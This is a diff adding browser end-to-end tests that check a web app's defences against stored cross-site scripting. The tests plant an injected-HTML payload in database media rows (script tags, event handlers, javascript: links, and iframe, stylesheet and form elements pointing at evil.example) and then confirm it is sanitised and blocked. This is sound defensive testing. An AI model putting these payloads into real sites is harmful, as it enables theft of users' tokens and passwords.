@@ -1,0 +1,134 @@
+import { cpSync, mkdtempSync, rmSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { readConfig } from '../../server/config.ts'
+import { loadContent } from '../../server/content/load-content.ts'
+import { ownFolders, type RunningServer, startServer } from '../../server/start.ts'
+import { expect, test } from './fixtures.ts'
+
+const camille = 'camille@example.org'
+const reading = 'medfasting-honest-promise'
+
+/** What somebody who can write into the database would write into a media, to read every member's token. */
+const poison = [
+  '<p>Texte gardé</p>',
+  '<img src="x" onerror="alert(localStorage.getItem(\'seve.token\'))">',
+  '<script>alert(1)</script><svg><script>alert(2)</script></svg><svg onload="alert(3)"></svg>',
+  '<iframe srcdoc="<script>alert(4)</script>"></iframe><iframe src="https://evil.example/"></iframe>',
+  '<a href="javascript:alert(5)">piège</a><img src="https://evil.example/pixel.gif">',
+  '<style>@import "https://evil.example/css"</style><link rel="stylesheet" href="https://evil.example/css">',
+  '<form action="https://evil.example/"><input name="password" autofocus onfocus="alert(6)"></form>',
+  '<details open ontoggle="alert(7)">x</details><object data="https://evil.example/x.swf"></object>',
+].join('')
+
+test.describe('a row written past every door', () => {
+  let server: RunningServer
+  let dataFolder = ''
+  let url = ''
+
+  test.beforeAll(async () => {
+    dataFolder = mkdtempSync(join(tmpdir(), 'seve-poisoned-'))
+    cpSync(process.env.SEVE_E2E_DATA ?? '', dataFolder, { recursive: true })
+    const config = { ...readConfig({ NODE_ENV: 'test', LOG_LEVEL: 'silent' }), dataFolder }
+    server = await startServer({ config, content: loadContent(ownFolders.content) })
+    const { database, catalogue } = server.services
+    await database.pool.query(
+      `update media set data = jsonb_set(jsonb_set(data, '{words,fr,content}', to_jsonb($1::text)), '{words,en,content}', to_jsonb($1::text))`,
+      [poison],
+    )
+    await database.pool.query("update content_version set version = 'poisoned'")
+    await catalogue.refresh()
+    url = await server.app.listen({ port: 0, host: 'localhost' })
+  })
+
+  test.afterAll(async () => {
+    await server.close()
+    rmSync(dataFolder, { recursive: true, force: true })
+  })
+
+  for (const isNative of [true, false]) {
+    test(`a poisoned row runs nothing, asks nobody and cannot be talked into it, through ${isNative ? 'the browser’s sanitiser' : 'DOMPurify'}`, async ({
+      page,
+      allowConsoleErrors,
+    }) => {
+      // What is tried below is refused by the content policy, and said on the console.
+      allowConsoleErrors(/Content Security Policy|Trusted(HTML|Script)/)
+      if (!isNative) await page.addInitScript(() => void Reflect.deleteProperty(Element.prototype, 'setHTML'))
+      let dialogs = 0
+      page.on('dialog', async dialog => {
+        dialogs += 1
+        await dialog.dismiss()
+      })
+      const foreign: string[] = []
+      page.on('request', request => request.url().startsWith(url) || foreign.push(request.url()))
+      const answered = await page.request.post(`${url}/api/auth/login`, {
+        data: { email: camille, password: 'Demo1234' },
+      })
+      const { user, token } = await answered.json()
+      await page.goto(`${url}/api/health`)
+      await page.evaluate(
+        ([storedUser, storedToken]) => {
+          localStorage.setItem('seve.user', storedUser)
+          localStorage.setItem('seve.token', storedToken)
+        },
+        [JSON.stringify(user), token] as const,
+      )
+      const arrived = page.waitForResponse(response => response.url().includes(`/api/program_day_media/${reading}`))
+      await page.goto(`${url}/app/programs/media/${reading}`)
+      // The poison did come all the way to the browser.
+      expect(await (await arrived).text()).toContain('evil.example')
+      await expect(page.getByText('Texte gardé')).toBeVisible()
+      await expect(
+        page.getByRole('article').locator('img[onerror], script, iframe, form, style, object, details'),
+      ).toHaveCount(0)
+      // Were the sanitiser talked round, the document itself would still refuse.
+      const refused = await page.evaluate(html => {
+        const host = document.createElement('div')
+        const script = document.createElement('script')
+        const sinks = [
+          () => host.insertAdjacentHTML('beforeend', html),
+          () => Reflect.set(host, 'innerHTML', html),
+          () => Reflect.set(script, 'text', 'alert(8)'),
+          () => Reflect.set(script, 'src', 'https://evil.example/x.js'),
+          () => host.setAttribute('onclick', 'alert(9)'),
+        ]
+        return sinks.map(sink => {
+          try {
+            sink()
+            return false
+          } catch {
+            return true
+          }
+        })
+      }, poison)
+      expect(refused).toEqual([true, true, true, true, true])
+      expect(dialogs).toBe(0)
+      expect(foreign).toEqual([])
+    })
+  }
+})
+
+test('no content is shown in the document that takes cards: whoever walks away from it gets another', async ({
+  page,
+  signedInAs,
+  allowConsoleErrors,
+}) => {
+  allowConsoleErrors(/TrustedHTML/)
+  await signedInAs(camille)
+  await page.goto('/app/subscription/card')
+  const hasCardScript = () => page.evaluate(() => 'Stripe' in window)
+  await expect(page.getByRole('banner')).toBeVisible()
+  await expect.poll(hasCardScript).toBe(true)
+  await page.getByRole('banner').getByRole('link', { name: 'Programme' }).click()
+  await expect(page.getByRole('tablist').first()).toBeVisible()
+  expect(await hasCardScript()).toBe(false)
+  const refused = await page.evaluate(() => {
+    try {
+      document.createElement('div').innerHTML = '<b>x</b>'
+      return false
+    } catch {
+      return true
+    }
+  })
+  expect(refused).toBe(true)
+})
